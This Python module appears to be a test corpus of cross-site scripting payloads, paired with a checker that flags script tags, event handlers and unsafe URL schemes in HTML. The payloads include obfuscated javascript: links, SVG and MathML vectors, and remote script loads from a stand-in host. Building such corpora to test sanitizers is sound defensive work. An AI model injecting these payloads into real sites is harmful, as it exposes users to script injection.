"""A corpus of script-injection attempts and a checker for "nothing here can run"."""

import re
from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<script type="module">import("//evil.example/m.js")</script>',
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<p onclick=\"alert('p')\">click me</p>",
    '<a href="https://ok.example" onmouseover="alert(1)">hover</a>',
    '<a href="javascript:alert(1)">plain</a>',
    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab entity</a>',
    '<a href=" &#14;javascript:alert(1)">leading control</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">ents</a>',
    '<a href="java\x00script:alert(1)">nul</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data url</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    "<svg onload=alert(1)><circle r=10></circle></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">svg link</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>"
    "</mtext></math>",
    '<math href="javascript:alert(1)">math link</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>m</maction></math>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<div><scr<script>ipt>alert(1)</scr</script>ipt></div>",
    "<<script>script>alert(1)<</script>/script>",
    "<!--<script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    '<table><td background="javascript:alert(1)">cell</td></table>',
    '<video><source onerror="alert(1)"></video>',
    '"><script>alert(1)</script>',
    "</textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<isindex type=image src=1 onerror=alert(1)>",
    '<a href="#" onclick="alert(1)">hash</a>',
    "<p>unclosed <b>bold <i>italic <a href='javascript:alert(1)'>x",
    '<img src="https://tracker.example/pixel.gif">',
    '<a href="https://example.org" target="_blank">tab</a>',
]

FORBIDDEN_TAGS = {
    "script",
    "style",
    "iframe",
    "frame",
    "object",
    "embed",
    "svg",
    "math",
    "form",
    "input",
    "button",
    "textarea",
    "meta",
    "base",
    "link",
    "img",
    "video",
    "audio",
    "source",
    "template",
    "noscript",
    "body",
    "isindex",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "background"}
SAFE_SCHEMES = {"http", "https", "mailto"}
# How a browser reads a URL's scheme: tabs and newlines anywhere are ignored, leading controls
# and spaces are stripped, then ASCII letters, digits, "+", "-", "." up to the first colon.
_SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):")


def _scheme(url: str) -> str | None:
    url = re.sub(r"[\t\n\r]", "", url).lstrip("".join(chr(c) for c in range(33)))
    match = _SCHEME.match(url.lower())
    return match.group(1) if match else None


class _Checker(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{tag}[{name}]")
            if name in {"style", "srcdoc", "target"}:
                self.problems.append(f"{tag}[{name}]")
            if name in URL_ATTRIBUTES and value is not None:
                scheme = _scheme(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    self.problems.append(f"{tag}[{name}={value!r}]")

    handle_startendtag = handle_starttag


def executable_parts(html: str) -> list[str]:
    """What a browser could run or load from elsewhere in ``html``; empty when it is safe."""
    checker = _Checker()
    checker.feed(html)
    checker.close()
    problems = checker.problems
    if "<script" in html.lower():
        problems.append("literal <script")
    return problems
